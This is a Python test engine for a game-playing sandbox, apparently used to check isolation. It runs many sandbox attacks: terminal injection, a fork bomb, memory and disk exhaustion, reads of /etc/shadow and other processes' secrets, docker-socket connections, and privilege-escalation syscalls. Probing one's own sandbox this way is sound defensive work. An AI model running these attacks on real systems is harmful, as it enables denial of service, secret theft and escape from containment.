"""A UGI engine for Trench Run that first tries one attack, then plays an illegal move so that its game ends at once.

    python3 attack.py NAME WORDS…

It reports on standard error what it achieved: `got: …` for each success and `no: …` for each failure. The test takes the
first for a hole. Attacks that wear the machine out never come to a move: they must be killed.
"""
import ctypes
import fcntl
import os
import resource
import socket
import struct
import subprocess
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
NAME, WORDS = sys.argv[1], sys.argv[2:]


def note(kind, text):
    sys.stderr.write(f"{kind}: {text}\n")
    sys.stderr.flush()


def attempt(what, action):
    """Reports whether an action succeeds; it fails by an exception or by returning False."""
    try:
        result = action()
    except (OSError, ValueError, AttributeError, subprocess.SubprocessError) as error:
        return note("no", f"{what}: {error}")
    note("no" if result is False else "got", f"{what}: {result!r}"[:200])


def call(number, *arguments):
    """A system call; an exception if it fails."""
    result = LIBC.syscall(number, *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def others():
    """The processes that are visible and are neither bubblewrap's nor this one's."""
    own = os.getpid()
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, own)]


def read(path):
    with open(path, "rb") as file:
        return file.read(200)


# 1. Typing into a terminal.
def tiocsti():
    for path in ["/dev/tty", "/dev/pts/0", "/dev/console"]:
        attempt(f"open {path}", lambda: os.open(path, os.O_RDWR))
    leader, follower = os.openpty()
    for descriptor in [0, 1, 2, follower]:
        attempt(f"TIOCSTI on {descriptor}", lambda: fcntl.ioctl(descriptor, 0x5412, b"x"))
        # With other bits above the 32 that the kernel looks at.
        attempt(f"TIOCSTI, long, on {descriptor}", lambda: call(16, descriptor, ctypes.c_ulong(1 << 32 | 0x5412), b"x"))


# 2. Limits of the arena. 3. Losing its own mark is what outlives() does in other ways.
def prlimit():
    arena = int(WORDS[0])
    for what in (resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
        attempt("prlimit on the arena", lambda: resource.prlimit(arena, what, (1, 1)))
        for process in others() + [1]:
            attempt(f"prlimit on {process}", lambda: resource.prlimit(process, what, (1, 1)) if process != 1 else False)
    attempt("kill the arena", lambda: os.kill(arena, 9))
    attempt("kill everything", lambda: os.kill(-1, 0))


# 3. A process that outlives the game, the group, the session and its environment.
def outlives():
    resource.setrlimit(resource.RLIMIT_RTTIME, (1000, 1000))
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", WORDS[0]], {})
        os._exit(0)
    time.sleep(0.3)


# 4. Memory for which another would be blamed: nothing of another can be taken. It hoards.
def hoard():
    blocks = []
    while True:
        blocks.append(bytearray(os.urandom(1 << 20) * 8))


# What the arena itself has open, or was given by whoever started it.
def descriptors():
    for name in os.listdir("/proc/self/fd"):
        attempt(f"descriptor {name}", lambda: int(name) > 2 and os.path.exists(f"/proc/self/fd/{name}") and os.readlink(f"/proc/self/fd/{name}"))


# Files that others cannot open as long as it likes.
def leases():
    with open("leased", "w"):
        pass
    file = os.open("leased", os.O_RDONLY)
    for kind in [fcntl.F_RDLCK, fcntl.F_WRLCK]:
        attempt("lease", lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, kind) == 0)
    os.unlink("leased")


# 5. The terminals of others.
def terminals():
    for number in range(100):
        path = f"/dev/pts/{number}"
        if os.path.exists(path):
            attempt(f"open {path}", lambda: os.open(path, os.O_RDWR | os.O_NONBLOCK))
    attempt("/proc of others", lambda: others() or False)
    for descriptor in os.listdir("/proc/1/fd") if os.access("/proc/1/fd", os.R_OK) else []:
        # It holds /dev/null and a pipe that has no reader any more.
        path = f"/proc/1/fd/{descriptor}"
        attempt(f"pipe {descriptor} of the first process", lambda: "pipe" in os.readlink(path) and os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b"x"))
        attempt(f"terminal {descriptor} of the first process", lambda: os.isatty(os.open(path, os.O_RDWR | os.O_NONBLOCK)))


def is_own(path):
    """Whether it would be in the sandbox's own /tmp, where it may write: the tests may run below the machine's /tmp."""
    return path.startswith("/tmp/")


# 6, 7, 13. Files of others: another student's folder, the store, secrets. 17: through links in its own folder.
def files():
    for path in WORDS:
        attempt(f"list {path}", lambda: os.listdir(path))
        attempt(f"read {path}", lambda: read(path))
        if not is_own(path):
            attempt(f"write {path}", lambda: open(path, "ab"))
            attempt(f"chmod {path}", lambda: os.chmod(path, 0))
    for path in ["/etc/shadow", "/root/.ssh", "/home", "/var/log", "/run", "/sys/kernel", "/boot"]:
        attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else read(path))
    above = os.path.dirname(os.getcwd())
    for path in ["/", "/usr", "/dev", "/etc", "/proc/sys/kernel/hostname"] + ([] if is_own(above) else [above]):
        attempt(f"write in {path}", lambda: open(path if os.path.isfile(path) else f"{path}/x", "w"))
    for process in [1] + others():
        for name in ["environ", "mem", "root/etc/shadow"]:
            text = ""
            attempt(f"/proc/{process}/{name}", lambda: b"SECRET" in read(f"/proc/{process}/{name}"))


# 8. Memory that no process shows: each takes more than its limit in all.
def memfd():
    attempt("memfd_create", lambda: os.memfd_create("x"))


def memfd_secret():
    attempt("memfd_secret", lambda: call(447, 0))


def shmget():
    attempt("shmget", lambda: call(29, 0, ctypes.c_size_t(1 << 20), 0o1600))
    attempt("msgget", lambda: call(68, 0, 0o1600))


def shared():
    """Shared memory that was written by processes which are gone."""
    import mmap

    kept = []
    while True:
        block = mmap.mmap(-1, 32 << 20)
        if os.fork() == 0:
            for place in range(0, 32 << 20, 4096):
                block[place] = 1
            os._exit(0)
        os.wait()
        kept.append(block)


def without_leader(action):
    """Does it in a process whose first thread has ended."""
    import threading

    def work():
        time.sleep(0.2)
        action()

    threading.Thread(target=work).start()
    LIBC.pthread_exit(None)


def hidden_leader():
    without_leader(hoard)


def shared_without_leader():
    without_leader(shared)


def memory_files():
    """Files in memory, and as many empty ones as there can be."""
    for place in ["/tmp", "/dev/shm"]:
        written = 0
        try:
            with open(f"{place}/big", "wb") as file:
                while written < 600 << 20:
                    written += file.write(bytes(1 << 20))
        except OSError:
            pass
        attempt(f"{written >> 20} MiB in {place}", lambda: written > 64 << 20)
    while True:
        for number in range(1 << 30):
            open(f"/tmp/{number}", "w").close()


def page_tables():
    """Memory for nothing but the tables of pages that were only read."""
    LIBC.mmap.restype = ctypes.c_void_p
    flags = 2 | 32 | 0x4000  # Private, anonymous, without a reserve.
    start = LIBC.mmap(None, ctypes.c_size_t(1 << 40), 1, flags, -1, ctypes.c_long(0))
    for place in range(start, start + (1 << 40), 2 << 20):
        ctypes.c_char.from_address(place).value
    while True:
        time.sleep(0.1)


def socket_buffers():
    """Memory in the buffers of sockets that nobody reads."""
    pair = socket.socketpair()
    for option in [socket.SO_SNDBUF, socket.SO_RCVBUF]:
        attempt("larger buffers", lambda: pair[0].setsockopt(socket.SOL_SOCKET, option, 1 << 22) or True)
    for _ in range(20):
        if os.fork() == 0:
            break
    kept = []
    while True:
        try:
            kept.append(socket.socketpair())
            for one in kept[-1]:
                one.setblocking(False)
                while True:
                    one.send(bytes(1 << 14))
        except OSError:
            time.sleep(0.001)


# 9. Orphans that nobody waits for.
def zombies():
    for _ in range(300):
        if os.fork() == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
        os.wait()
    attempt("zombies", lambda: sum(b"State:\tZ" in open(f"/proc/{process}/status", "rb").read() for process in others()) > 5)


# 10. The arena's priority.
def priority():
    arena = int(WORDS[0])
    for which, who in [(os.PRIO_PROCESS, arena), (os.PRIO_USER, 0), (os.PRIO_USER, os.getuid()), (os.PRIO_PGRP, 1)]:
        attempt(f"setpriority {which} {who}", lambda: os.setpriority(which, who, 19) or True)
    attempt("scheduler of the arena", lambda: os.sched_setscheduler(arena, os.SCHED_IDLE, os.sched_param(0)))
    attempt("scheduler", lambda: os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0)))
    attempt("processors", lambda: os.sched_setaffinity(0, {0}))
    attempt("ioprio", lambda: call(251, 1, arena, 3 << 13))


# 12. Processes that start processes.
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


# 14. Sockets of the machine.
def sockets():
    path, port = WORDS
    for name in [path, "\0" + path, "/run/dbus/system_bus_socket", "/run/docker.sock", "/run/postgresql/.s.PGSQL.5432"]:
        attempt(f"connect {name!r}", lambda: socket.socket(socket.AF_UNIX).connect(name) or True)
    attempt("connect", lambda: socket.create_connection(("127.0.0.1", int(port)), 2))
    for family in [socket.AF_PACKET, 38, 40]:  # Packets, kernel cryptography, the hypervisor.
        attempt(f"socket {family}", lambda: socket.socket(family, socket.SOCK_STREAM if family == 40 else 5 if family == 38 else 3))


# 15. Command lines with secrets.
def command_lines():
    for process in [1] + others():
        attempt(f"command line {process}", lambda: b"SECRET" in open(f"/proc/{process}/cmdline", "rb").read())
        attempt(f"environment {process}", lambda: b"SECRET" in open(f"/proc/{process}/environ", "rb").read())
    # What the sandbox sets, and what shells and the wrappers of pyenv add.
    usual = "PATH HOME TMPDIR LANG LC_CTYPE TZ SKIRMISH TERM PWD OLDPWD SHLVL _".split()
    attempt("own environment", lambda: [name for name in os.environ if name not in usual and "PYENV" not in name] or False)


# 16. Devices.
def devices():
    import stat

    for place in [".", "/tmp", "/dev", "/dev/shm"]:
        attempt(f"mknod in {place}", lambda: os.mknod(f"{place}/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0)))
        attempt(f"open in {place}", lambda: os.open(f"{place}/disk", os.O_RDONLY))
    for name in sorted(os.listdir("/dev")):
        mode = os.lstat(f"/dev/{name}").st_mode
        attempt(f"/dev/{name}", lambda: stat.S_ISBLK(mode))
    attempt("mount", lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, None))
    for flag in [0x10000000, 0x20000, 0x40000000]:
        attempt(f"unshare {flag:x}", lambda: call(272, flag))
        attempt(f"clone {flag:x}", lambda: call(56, flag | 17, None, None, None, None))
    attempt("ptrace", lambda: call(101, 16, 1, 0, 0))
    attempt("keyctl", lambda: call(250, 0, -3, 1))
    attempt("bpf", lambda: call(321, 0, None, 0))
    attempt("userfaultfd", lambda: call(323, 0))
    attempt("io_uring", lambda: call(425, 1, ctypes.create_string_buffer(256)))
    attempt("a system call of x32", lambda: foreign_call())
    attempt("become root", lambda: os.setuid(0) or True)
    attempt("privileges", lambda: b"CapEff:\t0000000000000000" not in open("/proc/self/status", "rb").read())
    attempt("a program with privileges", lambda: subprocess.run(["su", "-c", "id"], capture_output=True, timeout=5, stdin=subprocess.DEVNULL).returncode == 0)


def foreign_call():
    """In a child, which must be killed."""
    if (child := os.fork()) == 0:
        LIBC.syscall(0x40000000 | 39)
        os._exit(0)
    return not os.WIFSIGNALED(os.waitpid(child, 0)[1])


# 18. Files below the limit of one, deleted ones, and empty ones.
def fill():
    number = 0
    while True:
        number += 1
        with open(f"file-{number}", "wb") as file:
            file.write(bytes(1 << 20))


def fill_deleted():
    kept = []
    while True:
        file = open("deleted", "wb", buffering=0)
        os.unlink("deleted")
        for _ in range(8):
            file.write(bytes(1 << 20))
        kept.append(file)


def fill_empty():
    number = 0
    while True:
        number += 1
        open(f"file-{number}", "wb").close()


def fill_mapped():
    """Deleted files that no process has open, only mapped."""
    LIBC.mmap.restype = ctypes.c_void_p
    while True:
        with open("mapped", "w+b", buffering=0) as file:
            os.unlink("mapped")
            for _ in range(8):
                file.write(bytes(1 << 20))
            LIBC.mmap(None, ctypes.c_size_t(4096), 3, 1, file.fileno(), ctypes.c_long(0))


def fill_secretly():
    """Deleted files of a process that others may not look at."""
    LIBC.prctl(4, 0, 0, 0, 0)
    fill_deleted()


def fill_without_leader():
    without_leader(fill_deleted)


def fill_private():
    """In a directory that it makes unreadable."""
    os.mkdir("private")
    fd = os.open("private", os.O_RDONLY)
    os.chmod("private", 0)
    while True:
        time.sleep(0.1)


def chain():
    """Processes of which each starts the next and ends, so that none is there long enough to be stopped."""
    log = os.open("alive", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    for _ in range(8):
        if os.fork() == 0:
            while True:
                os.write(log, b"%f\n" % time.time())
                # System calls, which are faster.
                if LIBC.syscall(57) > 0:
                    LIBC.syscall(231, 0)


# 19. Busy processes while the opponent thinks: they count for how long they ran, second by second.
def busy():
    for _ in range(4):
        if os.fork() == 0:
            with open(f"ran-{os.getpid()}", "w") as log:
                while True:
                    log.seek(0)
                    log.write(f"{time.process_time():12.6f}")
                    log.flush()


def x86_32():
    """A system call of i386, by its interrupt; the arena must say that it was killed."""
    import mmap

    code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])
    page = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    note("got", "getpid of i386")


for line in sys.stdin:
    word = line.split()[0]
    if word == "ugi":
        print("ugiok", flush=True)
    elif word == "isready":
        print("readyok", flush=True)
    elif word == "go":
        globals()[NAME]()
        # The first is legal, and its opponent thinks.
        print("bestmove A3B4" if NAME in ("busy", "chain") else "bestmove A3A4", flush=True)
    elif word == "quit":
        break
